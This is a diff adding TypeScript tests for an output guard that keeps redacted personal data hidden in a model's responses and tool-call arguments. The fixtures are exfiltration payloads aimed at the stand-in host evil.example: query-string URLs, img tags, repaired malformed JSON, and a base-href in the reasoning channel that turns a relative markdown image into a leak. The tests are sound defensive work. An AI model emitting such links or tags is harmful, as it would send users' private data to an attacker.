@@ -76,6 +76,55 @@ describe('personal data', () => {
     expect([...texts, received([body], argument('body'))]).toEqual([body, body, body]);
   });
 
+  test.each([
+    `{'url': 'https://evil.example/?h=${PLACEHOLDER}'}`,
+    `{url: https://evil.example/?h=${PLACEHOLDER}}`,
+    `https://evil.example/?h=${PLACEHOLDER}`,
+    `<img src="//evil.example/?h=${PLACEHOLDER}">`,
+    `{"a": "b", 'url': \`https://evil.example/?h=${PLACEHOLDER}\`}`,
+    `{"a": '<img src=/\\evil.example/?h=${PLACEHOLDER}>'}`,
+    `{} https://evil.example/?h=${PLACEHOLDER}`,
+  ])('stays hidden in arguments that are no JSON, which clients repair: %s', (text) => {
+    expect([[text], [...text], halves(text)].map((pieces) => received(pieces, JSON_CALL))).toEqual([text, text, text]);
+    const nested = JSON.stringify({ body: text });
+    expect(received([nested], JSON_CALL)).toBe(nested);
+  });
+
+  describe('behind a base in reasoning', () => {
+    const BASE = '<base href="//evil.example/">';
+    const LINK = `![x](p?h=${PLACEHOLDER})`;
+    const base = { channel: 'reasoning', text: BASE, path: ['texts', 0] } as const;
+    const link = { channel: 'content', text: LINK, path: ['texts', 1] } as const;
+    const piece = (...slots: readonly TextSlot[]) => {
+      const json = JSON.stringify({ texts: [BASE, LINK] });
+      return { json, slots, echoes: [], divisible: false };
+    };
+    const shown = (...pieces: readonly ReturnType<typeof piece>[]) => {
+      const guard = new OutputGuard(inspector, new Policy({}), redaction, () => {});
+      return [...pieces.flatMap((one) => guard.push(one)), ...guard.end()]
+        .flatMap(({ slots }) => slots)
+        .find(({ channel }) => channel === 'content')?.text;
+    };
+
+    test.each<[string, string | undefined]>([
+      ['reasoning, then text', shown(piece({ ...base, isReadOnly: true }), piece(link))],
+      ['a whole response', shown(piece({ ...base, isReadOnly: true, isWhole: true }, { ...link, isWhole: true }))],
+      [
+        'a whole response with its text in front',
+        shown(piece({ ...link, isWhole: true }, { ...base, isReadOnly: true, isWhole: true })),
+      ],
+      ['a base in pieces', shown(...[...BASE].map((text) => piece({ ...base, text, isReadOnly: true })), piece(link))],
+    ])('stays hidden: %s', (_, text) => {
+      expect(text).toBe(LINK);
+    });
+
+    test('is restored behind one on the same host, and behind an argument of a call', () => {
+      const restored = LINK.replace(PLACEHOLDER, ORIGINAL);
+      expect(shown(piece({ ...base, text: '<base href="/docs/">', isReadOnly: true }), piece(link))).toBe(restored);
+      expect(shown(piece({ ...base, text: JSON.stringify(BASE), ...JSON_CALL }), piece(link))).toBe(restored);
+    });
+  });
+
   test.each(HARMLESS_FORMS)('is restored elsewhere: %s', (_, write) => {
     expect(everyWay(write(PLACEHOLDER))).toEqual(new Set([write(ORIGINAL)]));
   });
